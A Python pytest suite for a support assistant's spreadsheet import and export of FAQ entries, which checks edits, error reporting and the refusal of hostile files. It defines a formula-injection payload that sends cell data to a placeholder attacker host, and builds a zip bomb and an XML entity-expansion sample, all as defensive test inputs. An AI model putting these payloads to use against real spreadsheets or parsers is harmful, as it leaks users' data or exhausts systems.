"""Spreadsheets: a tenant exported as CSV or XLSX, edited as a support team would in Excel, imported
back as the drafts it makes, or as problems by row and column; hostile files refused."""

import codecs
import csv
import dataclasses
import io
import zipfile

import openpyxl
import pytest

from assistant.curation import sheetfiles
from assistant.curation import spreadsheet as sheet
from assistant.curation.changes import Knowledge
from assistant.curation.spreadsheet import Problem, SheetError
from assistant.data import intents, knowledge
from assistant.paths import project_root

FORMATS = {
    "csv;": (lambda rows: sheet.to_csv(rows, ";"), sheet.read_csv),
    "csv,": (lambda rows: sheet.to_csv(rows, ","), sheet.read_csv),
    "xlsx": (sheet.to_xlsx, sheet.read_xlsx),
}
FORMULA = '=HYPERLINK("http://evil.example/?d="&A1,"Details")'


@pytest.fixture(scope="module")
def tenants():
    return knowledge.load(project_root())


@pytest.fixture(scope="module")
def examples():
    return intents.load(project_root()).examples


@pytest.fixture
def exo(tenants):
    return tenants["exo"]


def known(tenant, *drafts, retired=()):
    return Knowledge(tenant, frozenset(tenant.entries) - set(retired) | set(drafts))


def through(rows, fmt="csv;"):
    """The rows as a file of that format, read back as an import reads it."""
    write, read = FORMATS[fmt]
    return read(write(rows))


def row_of(rows, entry, lang):
    return next(row for row in rows if row["entry"] == entry and row["language"] == lang)


# ---------------------------------------------------------------- round trips


@pytest.mark.parametrize("fmt", FORMATS)
@pytest.mark.parametrize("tenant", ["exo", "conex", "anvaigo", "solidxperts", "innovaphone"])
def test_an_unchanged_tenant_exported_and_imported_drafts_nothing(tenants, examples, tenant, fmt):
    rows = sheet.export_rows(tenants[tenant], examples)
    back = through(rows, fmt)
    assert back == rows
    assert sheet.import_rows(back, known(tenants[tenant]), examples) == ([], [])


def test_the_export_has_a_row_per_entry_and_language_with_its_phrasings_and_source(exo, examples):
    rows = sheet.export_rows(exo, examples)
    assert len(rows) == 2 * len(exo.entries) + 2  # and out_of_scope in each language
    fr = row_of(rows, "refund_policy", "fr")
    assert fr["topic"] == "refunds" and fr["answer"].startswith("Toute souscription achetée en ligne")
    assert fr["source"] == "Règlement — 3. Quelle est votre politique de remboursement?"
    mine = [e.text for e in examples if e.scope == "exo" and e.intent == "refund_policy" and e.lang == "fr"]
    assert fr["phrasings"].split("\n") == mine and len(mine) > 5
    assert row_of(rows, "out_of_scope", "en")["question"] == ""
    assert row_of(rows, "out_of_scope", "en")["phrasings"].startswith("What is eXo Platform's phone number?")


def test_the_workbook_has_a_frozen_bold_header_wrapped_cells_and_lists_to_pick_from(exo, examples):
    book = openpyxl.load_workbook(io.BytesIO(sheet.to_xlsx(sheet.export_rows(exo, examples))))
    page = book.active
    assert [c.value for c in page[1]] == list(sheet.COLUMNS) and page["A1"].font.bold
    assert page.freeze_panes == "A2" and page["E2"].alignment.wrap_text
    assert page.column_dimensions["E"].width > page.column_dimensions["B"].width
    lists = {str(v.sqref).split(":")[0]: v.formula1 for v in page.data_validations.dataValidation}
    assert lists["B2"] == '"fr,en"' and "refunds" in lists["C2"]


# ---------------------------------------------------------------- what an edit drafts


@pytest.mark.parametrize("fmt", FORMATS)
def test_an_edited_answer_is_an_edit_of_that_language_only(exo, examples, fmt):
    rows = sheet.export_rows(exo, examples)
    row_of(rows, "refund_policy", "en")["answer"] = "Refunds within {refund_window}; services are never refunded."
    changes, problems = sheet.import_rows(through(rows, fmt), known(exo), examples)
    assert problems == []
    assert changes == [
        {
            "kind": "edit",
            "entry": "refund_policy",
            "answer": {"en": "Refunds within {refund_window}; services are never refunded."},
        }
    ]


def test_a_topic_changed_on_both_rows_is_one_edit_and_spacing_alone_is_no_change(exo, examples):
    rows = sheet.export_rows(exo, examples)
    for lang in ("fr", "en"):
        row_of(rows, "refund_policy", lang)["topic"] = "payment"
    row_of(rows, "trial_length", "fr")["question"] += "  \r\n"  # trailing spaces and a line break Excel kept
    changes, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert (changes, problems) == ([{"kind": "edit", "entry": "refund_policy", "topic": "payment"}], [])


def test_new_rows_are_a_new_entry_written_by_staff_then_its_phrasings(exo, examples):
    rows = sheet.export_rows(exo, examples)
    rows.insert(
        4,
        sheet.layout_row(
            "delivery_delay", "fr", "ordering", "Quel est le délai de livraison ?", "Immédiat.", ["ça arrive quand ?"]
        ),
    )
    rows.append(
        sheet.layout_row("delivery_delay", "en", "", "How long is delivery?", "Immediate.", ["when do I get it"])
    )
    changes, problems = sheet.import_rows(through(rows, "xlsx"), known(exo), examples)
    assert problems == []
    assert changes == [
        {
            "kind": "entry",
            "entry": "delivery_delay",
            "topic": "ordering",
            "question": {"fr": "Quel est le délai de livraison ?", "en": "How long is delivery?"},
            "answer": {"fr": "Immédiat.", "en": "Immediate."},
            "source": None,
        },
        {"kind": "phrasing", "entry": "delivery_delay", "lang": "fr", "text": "ça arrive quand ?"},
        {"kind": "phrasing", "entry": "delivery_delay", "lang": "en", "text": "when do I get it"},
    ]


def test_a_new_phrasing_line_is_a_phrasing_and_known_ones_differing_in_case_or_spaces_are_not(exo, examples):
    rows = sheet.export_rows(exo, examples)
    fr = row_of(rows, "refund_policy", "fr")
    first = fr["phrasings"].split("\n")[0]
    fr["phrasings"] += (
        f"\n\n  je peux être remboursé si ça ne me va pas ?  \n{first.upper()}\n{'  '.join(first.split())}"
    )
    row_of(rows, "out_of_scope", "en")["phrasings"] += "\nwhat's the weather in Paris?"
    changes, problems = sheet.import_rows(through(rows, "csv,"), known(exo), examples)
    assert problems == []
    assert changes == [
        {
            "kind": "phrasing",
            "entry": "refund_policy",
            "lang": "fr",
            "text": "je peux être remboursé si ça ne me va pas ?",
        },
        {"kind": "phrasing", "entry": "out_of_scope", "lang": "en", "text": "what's the weather in Paris?"},
    ]


def test_a_missing_row_or_a_deleted_phrasing_retires_nothing_and_yes_under_retire_does(exo, examples):
    rows = [r for r in sheet.export_rows(exo, examples) if r["entry"] != "trial_length"]
    row_of(rows, "refund_policy", "fr")["phrasings"] = ""
    row_of(rows, "exact_price", "en")["retire"] = "Yes"
    row_of(rows, "exact_price", "en")["answer"] = "ignored: the entry is retired"
    changes, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert (changes, problems) == ([{"kind": "retire", "entry": "exact_price"}], [])


def test_an_entry_is_translated_by_filling_its_missing_language(exo, examples):
    entry = exo.entries["refund_policy"]
    french_only = dataclasses.replace(entry, question={"fr": entry.question["fr"]}, answer={"fr": entry.answer["fr"]})
    tenant = dataclasses.replace(exo, entries={**exo.entries, "refund_policy": french_only})
    rows = sheet.export_rows(tenant, examples)
    en = row_of(rows, "refund_policy", "en")
    assert en["question"] == en["answer"] == ""
    en["question"] = "Refund policy?"
    changes, problems = sheet.import_rows(through(rows), known(tenant), examples)
    assert changes == [] and problems == [Problem(rows.index(en) + 2, "answer", problems[0].message)]
    en["answer"] = "Within {refund_window}."
    changes, problems = sheet.import_rows(through(rows), known(tenant), examples)
    assert problems == []
    assert changes == [
        {
            "kind": "edit",
            "entry": "refund_policy",
            "question": {"en": "Refund policy?"},
            "answer": {"en": "Within {refund_window}."},
        }
    ]


# ---------------------------------------------------------------- problems, by row and column


def test_problems_name_the_row_as_excel_numbers_it_and_the_column(exo, examples):
    rows = sheet.export_rows(exo, examples)
    row_of(rows, "refund_policy", "en")["language"] = "de"
    rows.append(sheet.layout_row("new_one", "fr", "gossip", "Une question ?", "Une réponse."))
    rows.append(sheet.layout_row("new_two", "fr", "pricing", "", "Une réponse sans question."))
    row_of(rows, "trial_length", "fr")["answer"] = ""
    row_of(rows, "exact_price", "fr")["retire"] = "peut-être"
    rows.append(sheet.layout_row("Bad Id!", "en", "pricing", "A question?", "An answer."))
    at = lambda entry, lang: rows.index(row_of(rows, entry, lang)) + 2
    changes, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert [(p.row, p.column) for p in problems] == sorted(
        [
            (at("refund_policy", "de"), "language"),
            (at("exact_price", "fr"), "retire"),
            (at("trial_length", "fr"), "answer"),
            (at("new_one", "fr"), "topic"),
            (at("new_two", "fr"), "question"),
            (at("Bad Id!", "en"), "entry"),
        ]
    )
    message = {p.column: p.message for p in problems}
    assert "'language' must be one of the tenant's languages: fr, en" in message["language"]
    assert "'topic' must be one of:" in message["topic"] and "gossip" not in message["topic"]


def test_cells_too_long_and_rows_that_disagree_are_problems(exo, examples):
    rows = sheet.export_rows(exo, examples)
    row_of(rows, "refund_policy", "fr")["question"] = "q" * 301
    row_of(rows, "refund_policy", "en")["phrasings"] += "\nfine\n" + "p" * 301
    row_of(rows, "trial_length", "fr")["topic"] = "pricing"
    row_of(rows, "trial_length", "en")["topic"] = "trial"
    rows.append(dict(row_of(rows, "exact_price", "fr")))  # the same entry and language twice
    at = lambda entry, lang: rows.index(row_of(rows, entry, lang)) + 2
    _, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert [(p.row, p.column) for p in problems] == sorted(
        [(len(rows) + 1, "language"), (at("refund_policy", "fr"), "question"), (at("trial_length", "en"), "topic")]
    )
    del rows[-1]
    row_of(rows, "refund_policy", "fr")["question"] = "Remboursement ?"
    row_of(rows, "trial_length", "en")["topic"] = "pricing"
    changes, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert problems == [Problem(at("refund_policy", "en"), "phrasings", problems[0].message)]
    assert problems[0].message.startswith("Line ") and "300 characters" in problems[0].message


def test_a_control_character_is_a_problem_of_its_cell(exo, examples):
    data = b"entry;language;topic;question;answer;phrasings\nrefund_policy;fr;;;;rembourse\0ment ?\n"
    _, problems = sheet.import_rows(sheet.read_csv(data), known(exo), examples)
    assert [(p.row, p.column) for p in problems] == [(2, "phrasings")] and "control character" in problems[0].message


def test_a_common_intent_takes_phrasings_only_and_a_request_intent_none(exo, examples):
    rows = [
        sheet.layout_row("out_of_scope", "fr", question="Une question ?"),
        sheet.layout_row("request_quote", "fr", phrasings=["un devis"]),
    ]
    _, problems = sheet.import_rows(through(rows), known(exo), examples)
    assert [(p.row, p.column) for p in problems] == [(2, "question"), (3, "question")]
    assert "common intent" in problems[0].message and "new entry needs a question" in problems[1].message


def test_an_entry_retired_or_only_drafted_is_not_imported_over(exo, examples):
    rows = [
        sheet.layout_row("refund_policy", "fr", phrasings=["rembourse ?"]),
        sheet.layout_row("drafted_one", "en", phrasings=["x"]),
    ]
    _, problems = sheet.import_rows(through(rows), known(exo, "drafted_one", retired=["refund_policy"]), examples)
    assert [(p.row, p.column) for p in problems] == [(2, "entry"), (3, "entry")]
    assert "retired" in problems[0].message and "not yet published" in problems[1].message


def test_a_missing_column_is_a_problem_of_the_header(exo, examples):
    data = b"entry;language;topic;question;phrasings\nrefund_policy;fr;refunds;Q ?;\n"
    assert sheet.import_rows(sheet.read_csv(data), known(exo), examples)[1] == [
        Problem(
            1,
            "answer",
            "The column 'answer' is missing: the header names entry, language, topic, question, answer, phrasings.",
        )
    ]


# ---------------------------------------------------------------- files as Excel writes them


def test_a_csv_reads_the_same_with_or_without_its_bom_and_in_windows_1252(exo, examples):
    rows = sheet.export_rows(exo, examples)[:6]
    data = sheet.to_csv(rows)
    assert data.startswith(codecs.BOM_UTF8) and b"\r\n" in data
    without = data[len(codecs.BOM_UTF8) :]
    assert sheet.read_csv(without) == sheet.read_csv(data) == rows
    latin = without.decode("utf-8").encode("cp1252")  # Excel's plain "CSV" in French
    assert sheet.read_csv(latin) == rows


def test_a_french_excel_file_with_semicolons_and_quoted_multiline_cells(exo, examples):
    data = (
        "entry;language;topic;question;answer;phrasings;source;retire\r\n"
        "refund_policy;fr;refunds;Quelle est votre politique de remboursement ?;"
        '"Toute souscription achetée en ligne est remboursable pendant {refund_window}. Les services ne sont pas remboursés, qu\'ils aient été délivrés ou non.";'
        '"rembourser ; c\'est possible ?\r\nun ""remboursement"" sous 30 jours ?";"Règlement — 3.";\r\n'
        "\r\n"
        'trial_length;EN;;;;"trial;how long\r\nfree trial length?";;\r\n'
    ).encode("cp1252")
    rows = sheet.read_csv(data)
    assert len(rows) == 3 and rows[1] == dict.fromkeys(sheet.COLUMNS, "")
    assert rows[0]["phrasings"] == 'rembourser ; c\'est possible ?\nun "remboursement" sous 30 jours ?'
    changes, problems = sheet.import_rows(rows, known(exo), examples)
    assert problems == []
    assert changes == [
        {"kind": "phrasing", "entry": "refund_policy", "lang": "fr", "text": "rembourser ; c'est possible ?"},
        {"kind": "phrasing", "entry": "refund_policy", "lang": "fr", "text": 'un "remboursement" sous 30 jours ?'},
        {"kind": "phrasing", "entry": "trial_length", "lang": "en", "text": "trial;how long"},
        {"kind": "phrasing", "entry": "trial_length", "lang": "en", "text": "free trial length?"},
    ]


def test_blank_rows_keep_the_numbers_excel_shows(exo, examples):
    book = openpyxl.Workbook()
    page = book.active
    page.append(list(sheet.COLUMNS))
    page.append(["refund_policy", "fr"])
    page.cell(row=6, column=1, value="refund_policy")
    page.cell(row=6, column=2, value="xx")
    page.cell(row=6, column=6, value="rembourse ?")
    out = io.BytesIO()
    book.save(out)
    _, problems = sheet.import_rows(sheet.read_xlsx(out.getvalue()), known(exo), examples)
    assert [(p.row, p.column) for p in problems] == [(6, "language")]


# ---------------------------------------------------------------- formulas, never run


def test_a_formula_looking_text_is_exported_as_text_and_read_back_as_written(exo, examples):
    entry = dataclasses.replace(exo.entries["refund_policy"], answer={"fr": FORMULA, "en": "'+ and a quote"})
    tenant = dataclasses.replace(exo, entries={"refund_policy": entry})
    rows = sheet.export_rows(tenant, [])
    rows[0]["phrasings"] = "-1+2"
    data = sheet.to_csv(rows)
    cells = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""), delimiter=";"))
    assert cells[1][4] == "'" + FORMULA and cells[1][5] == "'-1+2" and cells[2][4] == "''+ and a quote"
    page = openpyxl.load_workbook(io.BytesIO(sheet.to_xlsx(rows))).active
    assert page["E2"].value == FORMULA and page["E2"].data_type == "s" and page["E2"].quotePrefix
    for fmt in FORMATS:
        back = through(rows, fmt)
        assert back == rows
        assert sheet.import_rows(back, known(tenant), []) == (
            [{"kind": "phrasing", "entry": "refund_policy", "lang": "fr", "text": "-1+2"}],
            [],
        )


# ---------------------------------------------------------------- hostile files


def test_a_file_over_the_size_limit_is_refused_before_it_is_read(monkeypatch):
    def never(*args, **kwargs):
        raise AssertionError("read")

    monkeypatch.setattr(sheetfiles, "_decoded", never)
    monkeypatch.setattr(sheetfiles, "_check_archive", never)
    big = b"entry;language\n" + b"x;fr\n" * (sheetfiles.MAX_BYTES // 5)
    for read in (sheet.read_csv, sheet.read_xlsx):
        with pytest.raises(SheetError, match="at most 5,000,000 are read"):
            read(big)


def test_a_sheet_over_the_row_limit_is_refused():
    rows = "entry;language\r\n" + "x;fr\r\n" * (sheetfiles.MAX_ROWS + 1)
    with pytest.raises(SheetError) as refused:
        sheet.read_csv(rows.encode())
    assert refused.value.problem.row == sheetfiles.MAX_ROWS + 2
    sheet.read_csv(rows.encode()[: -len("x;fr\r\n")])  # one row fewer is read


def zipped(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return out.getvalue()


def test_a_zip_bomb_is_refused_before_anything_is_inflated(monkeypatch):
    bomb = zipped({"xl/worksheets/sheet1.xml": b"\0" * (sheetfiles.MAX_UNCOMPRESSED + 1)})
    assert len(bomb) < 100_000
    monkeypatch.setattr(sheetfiles, "_declares_dtd", lambda *a: pytest.fail("a member was inflated"))
    with pytest.raises(SheetError, match="unpacks to more than"):
        sheet.read_xlsx(bomb)
    with pytest.raises(SheetError, match="parts"):
        sheet.read_xlsx(zipped({f"{n}.xml": b"" for n in range(sheetfiles.MAX_MEMBERS + 1)}))


def test_a_workbook_whose_xml_declares_entities_is_refused(exo, examples):
    good = sheet.to_xlsx(sheet.export_rows(exo, examples)[:2])
    with zipfile.ZipFile(io.BytesIO(good)) as archive:
        members = {name: archive.read(name) for name in archive.namelist()}
    laughs = b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;">]>'
    page = "xl/worksheets/sheet1.xml"
    members[page] = laughs + members[page].split(b"?>", 1)[-1]
    with pytest.raises(SheetError, match="DTD"):
        sheet.read_xlsx(zipped(members))


@pytest.mark.parametrize(
    "data, message",
    [
        (b"PK\x03\x04 not really a zip", "not an XLSX workbook"),
        (zipped({"hello.txt": b"hi"}), "cannot be read as an XLSX workbook"),
    ],
)
def test_what_is_not_a_workbook_is_refused_with_a_reason(data, message):
    with pytest.raises(SheetError, match=message):
        sheet.read_xlsx(data)


@pytest.mark.parametrize(
    "data, message",
    [
        (b"", "empty"),
        (b"just one column\nx\n", "header"),
        (codecs.BOM_UTF16_LE + "entry;language".encode("utf-16-le"), "UTF-16"),
        (codecs.BOM_UTF8 + b"entry;language\n\xff\xfe;fr\n", "not UTF-8"),
        (b"entry;language;entry\n", "twice"),
        (b"entry;;language\n", "Column B"),
        (b"entry;language\nx;fr;surplus\n", "column C"),
        (b"entry;language\nx;" + b"y" * 140_000 + b"\n", "Row 2 cannot be read as CSV"),
    ],
)
def test_what_is_not_a_table_is_refused_with_a_reason(data, message):
    with pytest.raises(SheetError, match=message):
        sheet.read_csv(data)


def test_an_import_lists_a_bounded_number_of_problems_and_drafts_a_bounded_number_of_changes(
    exo, examples, monkeypatch
):
    monkeypatch.setattr(sheet, "MAX_PROBLEMS", 3)
    bad = [sheet.layout_row(f"entry_{n}", "xx", phrasings=["p"]) for n in range(5)]
    _, problems = sheet.import_rows(bad, known(exo), examples)
    assert [p.row for p in problems] == [2, 3, 4, 6] and "first 3 problems" in problems[-1].message
    monkeypatch.setattr(sheet, "MAX_CHANGES", 3)
    many = [sheet.layout_row("refund_policy", "fr", phrasings=[f"nouvelle question {n}" for n in range(5)])]
    changes, problems = sheet.import_rows(many, known(exo), examples)
    assert len(changes) == 5 and [p.message for p in problems] == [
        "An import makes at most 3 changes: import the rest in another file."
    ]
